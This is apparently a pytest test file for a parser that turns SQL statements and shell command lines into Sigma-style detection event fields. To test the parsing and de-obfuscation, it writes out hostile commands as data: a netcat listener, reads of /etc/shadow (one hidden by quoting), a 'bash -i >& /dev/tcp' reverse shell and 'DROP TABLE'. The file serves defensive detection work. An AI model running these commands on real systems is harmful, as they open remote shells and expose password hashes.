import time

import pytest

from judgement.facts import Breadth, Facts, Kind, Verb
from judgement.sigma.fields import of_commands, of_entry, of_statement, plain


class TestStatements:
    @pytest.mark.parametrize(
        ("written", "asked"),
        [
            ("DROP/* x */TABLE\n\tt -- all", "DROP TABLE t"),
            ("SELECT '-- no  comment', \"a  b\"", "SELECT '-- no  comment', \"a  b\""),
            ("SELECT $x$ /* kept */ $x$, $1", "SELECT $x$ /* kept */ $x$, $1"),
            ("SELECT 1 /* never closed", "SELECT 1"),
            ("", ""),
        ],
    )
    def test_stand_on_one_line(self, written: str, asked: str) -> None:
        assert plain(written) == asked

    def test_of_a_megabyte_are_read_in_a_moment(self) -> None:
        start = time.process_time()
        for piece in ("/* ", "'a ", "$a$ $b$ ", "-- x\n"):
            plain(piece * (1_000_000 // len(piece)))
        assert time.process_time() - start < 10

    def test_bring_what_is_known_besides(self) -> None:
        facts = Facts(kind=Kind.SQL, verbs=frozenset({Verb.DELETE}), objects=("orders",),
                      breadth=frozenset({Breadth.NO_WHERE}))  # fmt: skip
        said = of_statement("DELETE FROM orders", facts, user="alice")
        assert said["verbs"] == ["delete"]
        assert said["breadth"] == ["no_where"]
        assert (said["objects"], said["user"]) == (["orders"], "alice")
        assert "literals" not in said


class TestCommands:
    def test_each_of_a_script_is_a_process(self) -> None:
        said = of_commands("cd /srv && sudo cat x | nc -l 4444", User="alice")
        lines = {each["CommandLine"]: each["Image"] for each in said}
        assert lines["nc -l 4444"] == "/usr/bin/nc"
        assert lines["sudo cat x"] == "/usr/bin/sudo"
        assert {each["User"] for each in said} == {"alice"}
        assert said[0]["ParentImage"] == "/bin/bash"

    def test_one_that_another_carries_is_started_by_that(self) -> None:
        said = {each["CommandLine"]: each for each in of_commands("sudo -u x bash -c 'id; w'")}
        assert (said["id"]["Image"], said["id"]["ParentImage"]) == ("/usr/bin/id", "/bin/bash")
        assert said["bash -c id; w"]["ParentImage"] == "/usr/bin/sudo"

    def test_quotes_hide_nothing(self) -> None:
        said = of_commands("c'a't /etc/sha\\dow")
        assert ("/usr/bin/cat", "cat /etc/shadow") in {
            (each["Image"], each["CommandLine"]) for each in said
        }

    def test_what_stands_inside_another_is_one_too(self) -> None:
        lines = [each["CommandLine"] for each in of_commands("echo $(cat /etc/shadow)")]
        assert "cat /etc/shadow" in lines

    def test_redirections_stay_with_their_command(self) -> None:
        lines = [each["CommandLine"] for each in of_commands("x=1; bash -i >& /dev/tcp/h/1 0>&1")]
        assert "bash -i >& /dev/tcp/h/1 0>&1" in lines

    @pytest.mark.parametrize(
        ("command", "image"),
        [
            ("/opt/x/run --now", "/opt/x/run"),
            ("./run", "/usr/bin/run"),
            ("LANG=C grep x", "/usr/bin/grep"),
            ("bash -c x", "/bin/bash"),
            ("'ls' -l", "/usr/bin/ls"),
        ],
    )
    def test_a_program_lies_where_most_do(self, command: str, image: str) -> None:
        assert of_commands(command)[0]["Image"] == image

    def test_what_is_no_shell_is_an_event_all_the_same(self) -> None:
        for script in ("\x00\x01\udcff" * 3, "))) ((", "if", "=" * 50):
            assert of_commands(script.encode(errors="replace").decode())
        assert not of_commands("  ")

    def test_a_script_of_many_commands_has_an_end(self) -> None:
        start = time.process_time()
        for piece in ("echo {}\n", "x|", "$(", "`", "sudo ", "'"):
            script = "".join(piece.format(number) for number in range(300_000))
            said = of_commands(script)
            assert len(said) <= 1000
            assert said[0]["CommandLine"] == script.strip()
        assert time.process_time() - start < 20


def test_an_entry_has_its_kinds_and_its_data() -> None:
    said = of_entry("grant.revoked", {"reason": "x"}, actor="user:1", subject="grant:2", case="c")
    assert said["actor_kind"] == "user"
    assert said["subject_kind"] == "grant"
    assert said["repeats"] == 1
